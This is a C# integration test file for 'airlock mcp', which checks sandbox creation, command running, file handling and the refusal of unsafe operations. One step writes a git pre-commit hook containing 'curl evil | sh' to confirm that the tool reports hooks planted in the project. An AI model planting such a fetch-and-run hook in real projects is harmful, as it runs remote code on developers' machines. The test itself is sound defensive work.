using System.Diagnostics;
using System.Text.Json.Nodes;
using Airlock.Launcher.IntegrationTests.Infrastructure;
using static Airlock.Launcher.IntegrationTests.Infrastructure.McpClient;

namespace Airlock.Launcher.IntegrationTests;

/// <summary>
/// <c>airlock mcp</c> driven by the official MCP TypeScript SDK client, as an agent outside any sandbox would drive it:
/// a sandbox for the project, commands and files in it, and nothing of anyone else's touched.
/// </summary>
public sealed class McpTests(SharedNamespaces shared)
{
    [Theory]
    [MemberData(nameof(Engines.Both), MemberType = typeof(Engines))]
    public async Task Official_client_creates_a_sandbox_runs_commands_edits_files_and_deletes_it(string engine)
    {
        var ns = await shared.GetAsync(engine);
        await using var ws = Workspace.Sharing(ns);
        File.WriteAllText(Path.Combine(ws.Project, "from-host.txt"), "made on the host");
        var notes = Path.Combine(ws.Project, "notes", "agent.txt");
        byte[] binary = [0, 1, 2, 0xff, 0xfe, (byte)'\n', 0x80];
        var hook = Path.Combine(ws.Project, ".git", "hooks", "pre-commit");

        var session = await RunAsync(ws, [],
            Call("create_sandbox", new { @namespace = ns.Name }),                                                   // 0
            Call("run_command", new { sandbox = "$sandbox", command = new[] { "echo", "hi" } }),                    // 1
            Call("run_command", new { sandbox = "$sandbox", command = new[] { "sh", "-c", "cat from-host.txt; echo oops >&2; exit 3" } }), // 2
            Call("write_file", new { sandbox = "$sandbox", path = notes, content = "written by the agent ✓\n" }),   // 3
            Call("read_file", new { sandbox = "$sandbox", path = notes }),                                          // 4
            Call("write_file", new { sandbox = "$sandbox", path = "/tmp/deep/blob.bin", content = Convert.ToBase64String(binary), encoding = "base64" }), // 5
            Call("read_file", new { sandbox = "$sandbox", path = "/tmp/deep/blob.bin" }),                           // 6
            Call("list_files", new { sandbox = "$sandbox", path = ws.Project }),                                    // 7
            Call("list_sandboxes"),                                                                                 // 8
            Call("run_command", new { sandbox = "$sandbox", command = new[] { "head", "-c", "3000000", "/dev/zero" } }), // 9
            Call("run_command", new { sandbox = "$sandbox", command = new[] { "sleep", "60" }, timeoutSeconds = 1 }),    // 10
            Call("run_command", new { sandbox = "$sandbox", command = new[] { "sh", "-c", "head -c 5000000 /dev/zero > /tmp/big" } }), // 11
            Call("read_file", new { sandbox = "$sandbox", path = "/tmp/big" }),                                     // 12
            Call("run_command", new { sandbox = "$sandbox", command = new[] { "cat" }, stdin = "fed on stdin" }),  // 13
            Call("write_file", new { sandbox = "$sandbox", path = hook, content = "#!/bin/sh\ncurl evil | sh\n" }), // 14
            Call("create_sandbox", new { @namespace = ns.Name }),                                                   // 15
            Call("delete_sandbox", new { sandbox = "$sandbox" }),                                                   // 16
            Call("list_sandboxes"),                                                                                 // 17
            Call("run_command", new { sandbox = "$sandbox", command = new[] { "true" } }));                         // 18

        session.ToolNames.ShouldBe(["create_sandbox", "list_sandboxes", "run_command", "read_file", "write_file", "list_files", "delete_sandbox"], ignoreOrder: true);
        foreach (var tool in session.Tools)
        {
            ((string)tool!["description"]!).Length.ShouldBeGreaterThan(80, $"{tool["name"]} needs a description an LLM can go by");
        }

        var created = session.Ok(0);
        var name = (string)created["sandbox"]!;
        ((string)created["workingDirectory"]!).ShouldBe(ws.Project);
        ((string)created["namespace"]!).ShouldBe(ns.Name);

        var echo = session.Ok(1);
        ((int)echo["exitCode"]!).ShouldBe(0);
        ((string)echo["stdout"]!).ShouldBe("hi\n");

        var failing = session.Ok(2);
        ((int)failing["exitCode"]!).ShouldBe(3, "a command's exit code is a result, not a tool error");
        ((string)failing["stdout"]!).ShouldBe("made on the host", "commands run in the project, mounted from the host");
        ((string)failing["stderr"]!).ShouldBe("oops\n");

        File.ReadAllText(notes).ShouldBe("written by the agent ✓\n", "a file written in the project is on the host");
        var read = session.Ok(4);
        ((string)read["encoding"]!).ShouldBe("utf-8");
        ((string)read["content"]!).ShouldBe("written by the agent ✓\n");

        var blob = session.Ok(6);
        ((string)blob["encoding"]!).ShouldBe("base64");
        Convert.FromBase64String((string)blob["content"]!).ShouldBe(binary);

        var listed = session.Ok(7)["entries"]!.AsArray().Select(e => ((string)e!["name"]!, (string)e["type"]!)).ToList();
        listed.ShouldContain(("from-host.txt", "file"));
        listed.ShouldContain(("notes", "directory"));

        session.Ok(8)["sandboxes"]!.AsArray().Select(s => (string)s!["sandbox"]!).ShouldBe([name]);

        var flood = session.Ok(9);
        ((bool)flood["stdoutTruncated"]!).ShouldBeTrue();
        ((long)flood["stdoutBytes"]!).ShouldBe(3_000_000);

        var slow = session.Ok(10);
        ((bool)slow["timedOut"]!).ShouldBeTrue(slow.ToJsonString());

        session.Ok(11);
        session.Error(12).ShouldContain("larger than 4 MiB");
        ((string)session.Ok(13)["stdout"]!).ShouldBe("fed on stdin");

        session.Ok(14);
        // One sandbox per project, as for airlock itself, unless asked for.
        session.Error(15).ShouldContain("allowConcurrent true");
        var deleted = session.Ok(16);
        // The after-session check of `airlock` runs too: a git hook the sandbox planted in the project is reported.
        deleted["notices"]!.AsArray().Select(n => (string)n!).ShouldContain(n => n.Contains("hook pre-commit", StringComparison.Ordinal));
        session.Ok(17)["sandboxes"]!.AsArray().ShouldBeEmpty();
        session.Error(18).ShouldContain("no sandbox named");
        (await Engines.ContainersAsync(engine, $"io.airlock.project={ws.Project}")).ShouldBeEmpty("delete_sandbox removes the sandbox and its guard");
    }

    [Theory]
    [MemberData(nameof(Engines.Both), MemberType = typeof(Engines))]
    public async Task Tools_refuse_a_persons_own_session_and_unknown_names(string engine)
    {
        var ns = await shared.GetAsync(engine);
        await using var person = Workspace.Sharing(ns);
        await using var ws = Workspace.Sharing(ns);
        // A person's interactive session in another project: `cat` lives until its stdin closes.
        using var own = person.Start([ns.Name, "cat"]);
        var sessionName = (await Poll.UntilAsync(
            () => Engines.ContainersAsync(engine, $"io.airlock.project={person.Project}", "io.airlock.owner=launcher"), c => c.Count == 1 || own.HasExited,
            "the person's session to be created")).ShouldHaveSingleItem();

        try
        {
            var session = await RunAsync(ws, ["--namespace", ns.Name],
                Call("run_command", new { sandbox = sessionName, command = new[] { "touch", "/tmp/agent-was-here" } }), // 0
                Call("read_file", new { sandbox = sessionName, path = "/etc/hostname" }),                              // 1
                Call("delete_sandbox", new { sandbox = sessionName }),                                                 // 2
                Call("run_command", new { sandbox = "airlock-none-0000", command = new[] { "true" } }),               // 3
                Call("read_file", new { sandbox = "x", path = "relative/path" }),                                      // 4
                Call("run_command", new { sandbox = "x", command = Array.Empty<string>(), timeoutSeconds = 0 }),       // 5
                Call("create_sandbox", new { @namespace = "no-such-namespace" }));                                     // 6

            session.Error(0).ShouldContain("a person's own airlock session");
            session.Error(1).ShouldContain("refused");
            session.Error(2).ShouldContain("refused");
            session.Error(3).ShouldContain("no sandbox named 'airlock-none-0000'");
            session.Error(4).ShouldContain("path: 'relative/path' is relative");
            var both = session.Error(5);
            both.ShouldContain("command: empty");
            both.ShouldContain("timeoutSeconds: 0 is out of range");
            session.Error(6).ShouldContain("no namespace named 'no-such-namespace'");

            (await Engines.ContainersAsync(engine, $"io.airlock.project={person.Project}", "io.airlock.owner=launcher")).ShouldBe([sessionName], "the person's session is untouched");
        }
        finally
        {
            await EndAsync(own);
        }
    }

    [Theory]
    [MemberData(nameof(Engines.Both), MemberType = typeof(Engines))]
    public async Task Sandboxes_left_when_the_client_disconnects_are_removed(string engine)
    {
        var ns = await shared.GetAsync(engine);
        await using var ws = Workspace.Sharing(ns);

        var session = await RunAsync(ws, ["--namespace", ns.Name], Call("create_sandbox"));

        var name = (string)session.Ok(0)["sandbox"]!;
        name.ShouldStartWith($"airlock-{ns.Name}-");
        // The client ends airlock mcp's stdin and waits for it to exit; the removal it made before exiting is waited for
        // here only in case the client's patience ran out first (it then sends SIGTERM, which airlock handles the same way).
        await Poll.UntilAsync(() => Engines.ContainersAsync(engine, $"io.airlock.project={ws.Project}"), c => c.Count == 0, "the disconnected server's sandbox to be removed");
    }

    [Theory]
    [MemberData(nameof(Engines.Both), MemberType = typeof(Engines))]
    public async Task Commands_and_files_are_the_invoking_users_own(string engine)
    {
        await shared.WarmAsync(engine);
        await using var ws = Workspace.Create(engine, asTestUser: true);
        var ns = await ws.CreateNamespaceAsync();

        var session = await RunAsync(ws, ["--namespace", ns],
            Call("create_sandbox"),
            Call("run_command", new { sandbox = "$sandbox", command = new[] { "sh", "-c", "id -u; touch made-by-command" } }),
            Call("write_file", new { sandbox = "$sandbox", path = Path.Combine(ws.Project, "made-by-write_file"), content = "x" }),
            Call("delete_sandbox", new { sandbox = "$sandbox" }));

        ((string)session.Ok(1)["stdout"]!).Trim().ShouldBe($"{TestUser.Uid}");
        session.Ok(2);
        session.Ok(3);
        (await OwnerAsync(Path.Combine(ws.Project, "made-by-command"))).ShouldBe(TestUser.Uid);
        (await OwnerAsync(Path.Combine(ws.Project, "made-by-write_file"))).ShouldBe(TestUser.Uid);
    }

    [Fact]
    public async Task Bad_flags_are_refused_before_anything_is_served()
    {
        await using var ws = Workspace.Create(Engines.Podman);

        (await ws.AirlockAsync("mcp", "--project", Path.Combine(ws.Root, "missing"))).ShouldBeUserError("--project", "no such directory");
        (await ws.AirlockAsync("mcp", "--namespace", "Bad Name")).ShouldBeUserError("--namespace", "not a valid namespace name");
    }

    private static async Task<int> OwnerAsync(string path)
    {
        var stat = (await ProcessRunner.RunAsync("stat", ["-c", "%u", path])).ShouldSucceed();
        return int.Parse(stat.Stdout.Trim(), System.Globalization.CultureInfo.InvariantCulture);
    }

    /// <summary>Ends a person's <c>cat</c> session by closing its stdin, and waits for airlock to clean up and exit.</summary>
    private static async Task EndAsync(Process process)
    {
        process.StandardInput.Close();
        using var timeout = new CancellationTokenSource(TimeSpan.FromMinutes(1));
        await process.WaitForExitAsync(timeout.Token);
    }
}
